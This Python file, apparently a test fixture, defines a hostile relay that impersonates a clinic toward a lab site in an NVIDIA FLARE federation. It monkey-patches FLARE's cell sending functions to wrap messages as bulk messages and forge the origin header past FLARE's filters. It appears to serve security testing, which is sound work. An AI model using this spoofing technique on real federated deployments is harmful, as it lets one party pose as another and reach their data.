"""What a relay that is not honest runs in the place of `Relay`: it calls a site in
another's name, past FLARE's checks.

It is imported by FLARE's processes alone. FLARE's cells unpack a "bulk" message behind
the filters for what comes in, and take who sent it from a header that the relay writes.
"""

from __future__ import annotations

import logging
import time
from contextlib import suppress
from typing import Any

from nvflare.collab import collab
from nvflare.fuel.f3.cellnet.core_cell import _TOPIC_BULK, TargetMessage
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import STREAM_CHANNEL, STREAM_DATA_TOPIC

from colonnade.core import Envelope, wire
from colonnade.core.message import Ping
from colonnade.transport.remote import HEAD, NONE, WHOLE

log = logging.getLogger("colonnade.hostile")


class HostileRelay:
    """Asks the laboratory as the clinic, in the clear."""

    def __init__(self, driver: str, order: str) -> None:
        self.driver = driver
        self.order = order

    def main(self) -> str:
        (clinic,), (lab,) = (
            collab.get_clients([self.driver]),
            collab.get_clients(["lab"]),
        )
        core = collab.fl_ctx.get_engine().get_cell().core_cell
        origin = clinic.backend.target_fqcn
        target = lab.backend.target_fqcn
        lab.backend.caller = clinic.name
        _forge(core, origin, target)
        frame = wire.encode(Envelope(self.driver, 1, Ping()))
        with suppress(Exception):  # the answer goes to the clinic
            lab(timeout=5.0).call(HEAD.pack(WHOLE, NONE, 0, len(frame)) + frame)
        time.sleep(2.0)
        return "done"


def _forge(core: Any, origin: str, target: str) -> None:
    """From here on what this cell streams to the target goes as a bulk message from
    `origin`."""
    fire = core.fire_and_forget
    send = core._send_to_endpoint

    def fire_and_forget(
        channel: str, topic: str, targets: Any, message: Message, **more: Any
    ) -> Any:
        if (channel, topic) != (STREAM_CHANNEL, STREAM_DATA_TOPIC) or targets not in (
            target,
            [target],
        ):
            return fire(channel, topic, targets, message, **more)
        inner = TargetMessage(
            target=target, channel=channel, topic=topic, message=message
        ).to_dict()
        log.warning("a forged call leaves")
        return fire(CellChannel.CELLNET, _TOPIC_BULK, [target], Message(None, [inner]))

    def send_to_endpoint(
        to_endpoint: Any, message: Message, *rest: Any, **more: Any
    ) -> Any:
        if message.get_header(MessageHeaderKey.TOPIC) == _TOPIC_BULK:
            message.set_header(MessageHeaderKey.ORIGIN, origin)
        return send(to_endpoint, message, *rest, **more)

    core.fire_and_forget = fire_and_forget
    core._send_to_endpoint = send_to_endpoint


setattr(HostileRelay, "main", collab.main(HostileRelay.main))  # noqa: B010 - as `flare_members` does
